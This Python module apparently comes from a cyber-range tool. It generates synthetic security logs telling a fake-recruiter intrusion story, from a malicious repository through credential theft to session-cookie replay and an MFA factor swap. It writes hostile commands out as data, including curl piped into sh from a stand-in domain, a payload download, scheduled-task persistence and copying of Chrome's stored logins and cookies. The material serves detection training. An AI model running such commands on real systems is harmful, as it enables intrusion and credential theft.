"""The attack, as the advisory tells it: approach, infection, theft of credentials, impersonation.

Every act is a few records among some 200,000. The times are Tokyo's: Pyongyang's clock is the same.
The intruder's young domain, code and addresses are made up and inert.
"""

from __future__ import annotations

from collections.abc import Iterator
from datetime import date, datetime, time, timedelta

from sekisho.model import Text
from sekisho.range.agents import CHROME_WINDOWS, browser
from sekisho.range.dice import Dice
from sekisho.range.emit import Emitted
from sekisho.range.layers_device import EXPLORER, connection, process, query
from sekisho.range.layers_sign_in import entra_who, okta_who
from sekisho.range.ledger import Act, Scene
from sekisho.range.plan import Day, workdays
from sekisho.range.shapes_endpoint import defender, defender_connection, falcon, falcon_connection
from sekisho.range.shapes_entra import signin
from sekisho.range.shapes_lines import bind, squid
from sekisho.range.shapes_okta import okta
from sekisho.range.shapes_windows import SECURITY, SYSMON, winlogbeat
from sekisho.range.world import (
    COLLEAGUE,
    INTRUDER_HOME,
    INTRUDER_VPN,
    OFFICE_EGRESS,
    TOKYO,
    VICTIM,
    World,
)

YOUNG_DOMAIN = "api-price-check.example"
YOUNG_ADDRESS = "192.0.2.240"
REPO = "C:\\Users\\ryo.makino\\src\\price-feed-debug"
NODE = "C:\\Program Files\\nodejs\\node.exe"
CMD = "C:\\Windows\\System32\\cmd.exe"
POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
CURL = "C:\\Windows\\System32\\curl.exe"
STAGE = "C:\\Users\\ryo.makino\\AppData\\Local\\Temp\\.pf\\upd.exe"
SESSION = "102VICTIMsession0000000001"


class Clock:
    """Times of the story: day 0 is the day on which the victim runs the code."""

    def __init__(self, world: World, days: list[Day]) -> None:
        at_work = {day.date for day in days if day.person.number == VICTIM and day.place == "office"}
        candidates = workdays(world)[1:3]
        self.zero: date = next((day for day in candidates if day in at_work), candidates[0])

    def at(self, day: int, hour: int, minute: int, second: float = 0) -> datetime:
        moment = datetime.combine(self.zero + timedelta(days=day), time(hour, minute), TOKYO)
        return moment + timedelta(seconds=second)


def attack(world: World, clock: Clock, scene: Scene) -> None:
    """The first half: from the message to the impersonation of the victim."""
    victim = world.person(VICTIM).uid
    scene.play(
        Act(
            "S01",
            Text(
                ja="SNSで採用担当者を名乗る者が接触し、履歴の消せるメッセージアプリへ誘導",
                en="A 'recruiter' writes on a social network and moves the talk to an erasable messenger",
            ),
            victim,
            ("T1.1", "T1.3", "T1.4"),
            ("T1566.003",),
        ),
        approach(world, clock),
    )
    scene.play(
        Act(
            "S02",
            Text(
                ja="「不具合を直してほしい」というリポジトリを業務用PCで実行、node がシェルを起動",
                en="The 'please debug' code is run on the work PC; node starts a shell that fetches more",
            ),
            victim,
            ("T2.1", "T2.2", "T2.3"),
            ("T1204.002", "T1059"),
            ("node-spawns-shell",),
        ),
        infection(world, clock),
    )
    scene.play(
        Act(
            "S03",
            Text(
                ja="相談された同僚も Mac で実行、スクリプトを取得してシェルへ渡す（curl | sh）",
                en="A colleague who was asked for help runs it on a Mac: curl piped into a shell",
            ),
            world.person(COLLEAGUE).uid,
            ("T2.3", "A1"),
            ("T1105", "T1059.004"),
            ("curl-pipe-shell",),
        ),
        colleague(world, clock),
    )
    scene.play(
        Act(
            "S04",
            Text(ja="符号化された PowerShell を実行", en="Encoded PowerShell is run"),
            victim,
            ("T2.4",),
            ("T1059.001", "T1027"),
            ("powershell-encoded",),
        ),
        powershell(world, clock),
    )
    scene.play(
        Act(
            "S05",
            Text(ja="常駐のためスケジュールされたタスクを作成", en="A scheduled task is made, to stay"),
            victim,
            ("T2.1",),
            ("T1053.005",),
            ("task-with-script-host",),
        ),
        persistence(world, clock),
    )
    scene.play(
        Act(
            "S06",
            Text(
                ja="ブラウザに保存された認証情報とクッキーを読み取り",
                en="The browser's stored credentials and cookies are read",
            ),
            victim,
            ("T3.1",),
            ("T1555.003", "T1539"),
            ("browser-store-copied",),
        ),
        browser_store(world, clock),
    )
    scene.play(
        Act(
            "S07",
            Text(ja="LSASS のメモリへアクセス", en="The memory of LSASS is opened"),
            victim,
            ("T3.1",),
            ("T1003.001",),
            ("lsass-access",),
        ),
        lsass(world, clock),
    )
    scene.play(
        Act(
            "S08",
            Text(
                ja="盗まれたセッションクッキーをVPN・住宅回線から再利用（セッションIDは同じ、別ネットワーク）",
                en="The stolen session cookie is replayed from a VPN and a home line (same session id)",
            ),
            victim,
            ("T3.1", "A6", "A7"),
            ("T1550.004",),
        ),
        replay(world, clock),
    )
    scene.play(
        Act(
            "S09",
            Text(
                ja="被害者のアカウントで多要素認証なしのサインインに成功",
                en="A sign-in with the victim's account succeeds without a second factor",
            ),
            victim,
            ("A2", "T3.1"),
            ("T1078.004",),
            ("mfa-missing",),
        ),
        no_factor(world, clock),
    )
    scene.play(
        Act(
            "S10",
            Text(
                ja="被害者の認証要素を削除し、攻撃者の要素を登録",
                en="The victim's factor is removed and the intruder's enrolled",
            ),
            victim,
            ("A2",),
            ("T1556.006", "T1098.005"),
            ("mfa-factor-removed",),
        ),
        factor(world, clock),
    )


def approach(world: World, clock: Clock) -> Iterator[Emitted]:
    dice, victim = Dice(world.seed, "story", "S01"), world.person(VICTIM)
    for minute, host in enumerate(
        ("social.example", "social.example", "erasable-chat.example", "erasable-chat.example")
    ):
        at = clock.at(-1, 12, 40, minute * 400)
        yield bind(dice, at, victim.lan, host)
        yield squid(dice, at + timedelta(seconds=1), victim.lan, victim.login, host)


def _run(
    world: World, dice: Dice, at: datetime, image: str, command: str, parent: tuple[str, str]
) -> Emitted:
    victim = world.person(VICTIM)
    data = process(dice, at, victim, image, command, parent) | {"CurrentDirectory": REPO + "\\"}
    return winlogbeat(dice, at, victim.host, SYSMON, 1, data)


def infection(world: World, clock: Clock) -> Iterator[Emitted]:
    dice, victim = Dice(world.seed, "story", "S02"), world.person(VICTIM)
    clone = clock.at(0, 14, 2, 11)
    git = "C:\\Program Files\\Git\\cmd\\git.exe"
    remote = "https://code.example.com/hiring-challenge/price-feed-debug.git"
    yield bind(dice, clone, victim.lan, "code.example.com")
    yield _run(world, dice, clone, git, f'git clone {remote} "{REPO}"', (EXPLORER, EXPLORER))
    run = clock.at(0, 14, 21, 40)
    serve = f'"{NODE}" "{REPO}\\server.js"'
    yield _run(world, dice, run, NODE, serve, (CMD, "cmd.exe"))
    later = run + timedelta(seconds=4)
    url = f"https://{YOUNG_DOMAIN}/v2/update"
    shell = f'{CMD} /d /s /c "curl.exe -fsS {url} -o {STAGE}"'
    yield _run(world, dice, later, CMD, shell, (NODE, serve))
    yield defender(
        dice,
        later + timedelta(milliseconds=90),
        victim,
        "DeviceProcessEvents",
        ActionType="ProcessCreated",
        FileName="cmd.exe",
        FolderPath=CMD,
        ProcessCommandLine=shell,
        ProcessId=dice.randrange(1000, 30000),
        AccountName=victim.login,
        InitiatingProcessFileName="node.exe",
        InitiatingProcessFolderPath=NODE.lower(),
        InitiatingProcessCommandLine=serve,
        InitiatingProcessId=dice.randrange(1000, 30000),
    )
    yield from _traffic(world, dice, later)


def _traffic(world: World, dice: Dice, start: datetime) -> Iterator[Emitted]:
    """What the young domain is told: at once, and every now and then."""
    victim = world.person(VICTIM)
    yield bind(dice, start, victim.lan, YOUNG_DOMAIN)
    for later, image, name in ((1, CURL, "curl.exe"), (95, STAGE, "upd.exe"), (3700, STAGE, "upd.exe")):
        moment = start + timedelta(seconds=later)
        seen = query(dice, moment, victim, image, YOUNG_DOMAIN, YOUNG_ADDRESS)
        yield winlogbeat(dice, moment, victim.host, SYSMON, 22, seen)
        opened = connection(dice, moment, victim, image, YOUNG_ADDRESS, YOUNG_DOMAIN)
        yield winlogbeat(dice, moment, victim.host, SYSMON, 3, opened)
        yield defender_connection(dice, moment, victim, name, YOUNG_DOMAIN, YOUNG_ADDRESS, 443)
        yield squid(dice, moment, victim.lan, victim.login, YOUNG_DOMAIN)


def colleague(world: World, clock: Clock) -> Iterator[Emitted]:
    """On a Mac, seen by its EDR."""
    dice, person = Dice(world.seed, "story", "S03"), world.person(COLLEAGUE)
    at = clock.at(0, 14, 38, 20)
    folder = f"/Users/{person.login}/src/price-feed-debug"
    command = f'sh -c "curl -fsSL https://{YOUNG_DOMAIN}/v2/update | sh"'
    for second, image, line, parent in (
        (0, "/usr/local/bin/node", f"node {folder}/server.js", "zsh"),
        (4, "/bin/sh", command, "node"),
    ):
        yield falcon(
            dice,
            at + timedelta(seconds=second),
            person,
            OFFICE_EGRESS,
            "ProcessRollup2",
            ImageFileName=image,
            CommandLine=line,
            ParentBaseFileName=parent,
            UserName=person.login,
            RawProcessId=str(dice.randrange(1000, 30000)),
            SHA256HashData=Dice(1, "image", image).digits(64),
        )
    yield bind(dice, at + timedelta(seconds=4), person.lan, YOUNG_DOMAIN)
    later = at + timedelta(seconds=5)
    yield falcon_connection(dice, later, person, OFFICE_EGRESS, "curl", YOUNG_ADDRESS, 443)


def powershell(world: World, clock: Clock) -> Iterator[Emitted]:
    dice = Dice(world.seed, "story", "S04")
    # "Get-ChildItem Env:" in UTF-16LE and Base64: harmless, but shaped like the real thing
    encoded = "RwBlAHQALQBDAGgAaQBsAGQASQB0AGUAbQAgAEUAbgB2ADoA"
    command = f"powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand {encoded}"
    yield _run(world, dice, clock.at(0, 14, 23, 5), POWERSHELL, command, (STAGE, STAGE))


def persistence(world: World, clock: Clock) -> Iterator[Emitted]:
    dice, victim = Dice(world.seed, "story", "S05"), world.person(VICTIM)
    at = clock.at(0, 14, 25, 30)
    command = f'schtasks.exe /Create /F /SC MINUTE /MO 30 /TN "PriceFeedUpdate" /TR "{STAGE}"'
    yield _run(world, dice, at, "C:\\Windows\\System32\\schtasks.exe", command, (STAGE, STAGE))
    data = {
        "SubjectUserSid": victim.sid,
        "SubjectUserName": victim.login,
        "SubjectDomainName": "REIJI",
        "SubjectLogonId": "0x5a1f2c",
        "TaskName": "\\PriceFeedUpdate",
        "TaskContent": f"<Task><Actions><Exec><Command>{STAGE}</Command></Exec></Actions></Task>",
    }
    yield winlogbeat(dice, at + timedelta(milliseconds=120), victim.host, SECURITY, 4698, data)


def browser_store(world: World, clock: Clock) -> Iterator[Emitted]:
    dice = Dice(world.seed, "story", "S06")
    store = "C:\\Users\\ryo.makino\\AppData\\Local\\Google\\Chrome\\User Data\\Default"
    for second, name in ((0, "Login Data"), (2, "Network\\Cookies"), (4, "Web Data")):
        command = f'{CMD} /c copy /y "{store}\\{name}" "C:\\Users\\ryo.makino\\AppData\\Local\\Temp\\.pf\\"'
        yield _run(world, dice, clock.at(0, 15, 2, second), CMD, command, (STAGE, STAGE))


def lsass(world: World, clock: Clock) -> Iterator[Emitted]:
    dice, victim = Dice(world.seed, "story", "S07"), world.person(VICTIM)
    at = clock.at(0, 15, 4, 18)
    data = {
        "RuleName": "-",
        "UtcTime": "-",
        "SourceProcessGUID": "{" + dice.uid() + "}",
        "SourceProcessId": str(dice.randrange(1000, 30000)),
        "SourceThreadId": str(dice.randrange(1000, 30000)),
        "SourceImage": STAGE,
        "TargetProcessGUID": "{" + dice.uid() + "}",
        "TargetProcessId": "788",
        "TargetImage": "C:\\Windows\\system32\\lsass.exe",
        "GrantedAccess": "0x1410",
        "CallTrace": "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e",
        "SourceUser": f"REIJI\\{victim.login}",
        "TargetUser": "NT AUTHORITY\\SYSTEM",
    }
    yield winlogbeat(dice, at, victim.host, SYSMON, 10, data)


def replay(world: World, clock: Clock) -> Iterator[Emitted]:
    """Single sign-on in a session that the victim opened, from other networks; agent copied."""
    dice, victim = Dice(world.seed, "story", "S08"), world.person(VICTIM)
    office = okta_who(victim, "203.0.113.10")
    target = (("0oaWiki0", "AppInstance", "Wiki", "Wiki"),)
    yield okta(dice, clock.at(1, 10, 5), office, "user.authentication.sso", session=SESSION, targets=target)
    for minute, address in ((0, INTRUDER_VPN), (6, INTRUDER_VPN), (14, INTRUDER_HOME), (31, INTRUDER_HOME)):
        thief = okta_who(victim, address, browser(victim))
        app = dice.one(("Wiki", "GitHub", "Jira"))
        yield okta(
            dice,
            clock.at(1, 11, minute, 20),
            thief,
            "user.authentication.sso",
            session=SESSION,
            targets=(("0oa" + app, "AppInstance", app, app),),
        )


def no_factor(world: World, clock: Clock) -> Iterator[Emitted]:
    dice, victim = Dice(world.seed, "story", "S09"), world.person(VICTIM)
    thief = entra_who(victim, INTRUDER_HOME, CHROME_WINDOWS)
    yield signin(dice, clock.at(2, 1, 12, 8), thief, "Office 365 Exchange Online", mfa=False)


def factor(world: World, clock: Clock) -> Iterator[Emitted]:
    dice, victim = Dice(world.seed, "story", "S10"), world.person(VICTIM)
    thief = okta_who(victim, INTRUDER_HOME)
    target = ((victim.okta_uid, "User", victim.mail, victim.display),)
    yield okta(
        dice,
        clock.at(2, 1, 19, 2),
        thief,
        "user.mfa.factor.deactivate",
        session=SESSION,
        reason="User reset OKTA_VERIFY_PUSH factor",
        debug={"factor": "OKTA_VERIFY_PUSH"},
        targets=target,
    )
    yield okta(
        dice,
        clock.at(2, 1, 20, 44),
        thief,
        "user.mfa.factor.activate",
        session=SESSION,
        reason="User set up TOKEN_SOFTWARE_TOTP factor",
        debug={"factor": "TOKEN_SOFTWARE_TOTP"},
        targets=target,
    )
